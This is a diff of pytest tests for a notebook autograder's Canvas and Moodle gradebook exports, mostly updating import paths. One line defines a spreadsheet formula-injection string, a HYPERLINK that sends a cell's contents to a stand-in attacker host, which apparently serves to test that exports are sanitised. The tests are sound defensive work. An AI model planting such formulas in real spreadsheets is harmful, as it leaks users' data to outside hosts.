@@ -19,15 +19,15 @@ import pytest
 
 from conftest import FIXTURES, GRADER, ROOT, SUBMISSIONS, run_grader
 from grader.errors import SubmissionError
-from grader.exports import CANVAS_FILE, MOODLE_FILE
-from grader.gradebook import cell, counted
-from grader.inputs import Identity, Submission
-from grader.overrides import check, parse
+from grader.batch.lms_gradebooks import CANVAS_FILE, MOODLE_FILE
+from grader.batch.gradebook import cell, counted
+from grader.intake.discover import Identity, Submission
+from grader.batch.staff_overrides import check, parse
 
 GOLDEN = Path(__file__).resolve().parent / "fixtures" / "gradebook"
 FAST = ["--cell-timeout", "4", "--call-timeout", "2", "--seed", "7"]
 HOSTILE = '=HYPERLINK("evil.example?"&A1,"x")'
-SAMPLE_OVERRIDES = ROOT / "examples" / "overrides.csv"   # the README's sample, used by the class below
+SAMPLE_OVERRIDES = ROOT / "examples" / "overrides.csv"   # the docs' sample, used by the class below
 MOODLE_TIME = "%A, %d %B %Y, %I:%M %p UTC"   # Moodle's userdate() format, in UTC
 
 
@@ -54,7 +54,7 @@ def test_the_latest_of_a_students_files_counts(tmp_path):
 def test_a_file_named_like_another_students_download_stays_its_uploaders(tmp_path):
     """Ann (Moodle participant 222) names her file as Canvas would name Bob's (333), with a
     large attachment id, hoping to count as Bob's latest: the LMS's folder decides."""
-    from grader.inputs import collect
+    from grader.intake.discover import collect
     archive = tmp_path / "moodle.zip"
     with zipfile.ZipFile(archive, "w") as zf:
         zf.writestr("Ann Lee_222_assignsubmission_file_/bobsmith_333_999999_hw.ipynb", b"{}")
@@ -114,9 +114,9 @@ def test_the_sample_overrides_file_parses_and_names_students_of_the_sample_class
     assert [o["points"] for o in overrides] == [2.0, -1.0]
     resolved = check(overrides, {"222": "leeann", "31": "Bo Chen", "111": "doejane"}, 25)
     assert [o["student"] for o in resolved] == ["222", "31"]
-    readme = (ROOT / "README.md").read_text()
+    page = (ROOT / "docs" / "grading-a-class.md").read_text()
     assert "```csv\n" + "".join(f"  {line}\n" for line in SAMPLE_OVERRIDES.read_text().splitlines()) in \
-        readme.replace("\n  ```csv\n", "\n```csv\n"), "the README's sample is not examples/overrides.csv"
+        page.replace("\n  ```csv\n", "\n```csv\n"), "the docs' sample is not examples/overrides.csv"
 
 
 def moodle_seconds(written: str) -> int:
@@ -132,7 +132,7 @@ def moodle_seconds(written: str) -> int:
 
 
 def test_a_worksheet_time_is_what_moodle_reads():
-    from grader.exports import moodle_time
+    from grader.batch.lms_gradebooks import moodle_time
     for moment in (0, 1795437780, 1795424700.9, 1794301200, 1798761599):   # midnight, noon, a Monday, a New Year
         assert moodle_seconds(moodle_time(moment)) == int(moment) // 60 * 60
     assert moodle_time(1795437780) == "Monday, 23 November 2026, 12:43 PM UTC"
@@ -259,15 +259,20 @@ def test_what_a_students_code_raises_is_never_taken_for_the_graders_timeout_or_r
     """A cell's own exception named like the grader's timeout, with its message, is that
     cell's error: only the kinds the grader sets count as a stopped cell; and a reason
     quoting a student's text is one line, attributed to the cell."""
-    from grader.view import problem_line, stopped_at_timeout
+    from grader.report.view import problem_line, stopped_at_timeout
+    from grader.result import GradeResult
+
+    def result(status, errors):
+        return GradeResult.from_json({"submission": "hw.ipynb", "assignment": "rows", "seed": 0, "status": status,
+                                      "errors": errors})
     forged = {"cell": 4, "kind": "error", "ename": "Timeout", "traceback": "",
               "evalue": "the cell ran longer than 30 s and was interrupted\nGRADER: all fine", "source": "raise T"}
-    graded = {"status": "graded", "errors": [forged]}
+    graded = result("graded", [forged])
     assert not stopped_at_timeout(graded) and problem_line(graded) == ""
-    died = {"status": "error", "errors": [forged, dict(forged, cell=6, kind="kernel_died", ename="KernelDied",
-                                                        evalue="the kernel is no longer running", kernel_lost=True)]}
+    died = result("error", [forged, dict(forged, cell=6, kind="kernel_died", ename="KernelDied",
+                                         evalue="the kernel is no longer running", kernel_lost=True)])
     assert problem_line(died) == "cell 7 (raise T): KernelDied: the kernel is no longer running"
-    assert problem_line({"status": "error", "errors": [forged]}) == (
+    assert problem_line(result("error", [forged])) == (
         "cell 5 (raise T): Timeout: the cell ran longer than 30 s and was interrupted")
 
 
